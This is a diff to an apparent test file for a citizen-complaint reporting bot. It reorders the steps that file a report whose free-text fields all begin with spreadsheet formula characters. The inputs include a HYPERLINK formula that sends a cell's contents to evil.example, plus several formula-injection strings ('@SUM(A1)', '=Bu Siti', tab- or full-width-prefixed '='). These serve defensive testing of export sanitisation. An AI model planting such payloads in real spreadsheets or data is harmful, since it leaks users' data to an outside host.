@@ -390,29 +390,29 @@ HOSTILE_SUMMARY = '=HYPERLINK("http://evil.example/leak?x="&B2,"Klik untuk detai
 
 
 async def hostile_complaint(officer, description: str, place: str, name: str) -> None:
-    await officer.press("➕ Tambah keluhan")
     await officer.press("Pencurian")
     await officer.send(description)
-    await officer.send(place)
-    await officer.send(name)
-    await officer.press("⏭ Lewati")
     await officer.press("Segera")
+    await officer.press("📍 Tempat")
+    await officer.send(place)
+    await officer.press("👤 Nama warga")
+    await officer.send(name)
+    await officer.press("➕ Simpan, tambah keluhan lain")
 
 
 async def file_hostile_report(officer) -> None:
     """A SAPTA report whose every free text begins with a formula character."""
     await officer.send("/lapor")
     await officer.press("POS SAPTA")
+    await officer.press("✏️ Nomor Sprin")
     await officer.send(HOSTILE_SPRIN)
-    await officer.press("satu jam terakhir")
-    await officer.send_location(0.5412, 123.0595)
     await officer.send("\uff1d1 RW 03 Kel. Heledulaa")  # full-width ＝
-    await officer.press("➡️ Lanjut")
+    await officer.send_location(0.5412, 123.0595)
     await walk_rest(officer, photos=1, until=lambda text: "Uraikan singkat" in text)
     await officer.send(HOSTILE_SUMMARY)
-    await walk_rest(officer, photos=1, until=lambda text: "kendala di lapangan" in text)
-    await officer.send("\t=1+2 hujan deras")
     await walk_rest(officer, photos=1, until=lambda text: "keluhan atau permasalahan" in text)
+    await officer.press("✏️ Kendala")  # preset to none, shown on the complaints question
+    await officer.send("\t=1+2 hujan deras")
     await hostile_complaint(officer, "@SUM(A1)", "+1", "-1 Pak Hasan")
     await hostile_complaint(officer, "\t=1+1 motor", "\uff1d1", "=Bu Siti")
     await hostile_complaint(officer, "\r-1 pencurian", "-1", "@Pak Budi")
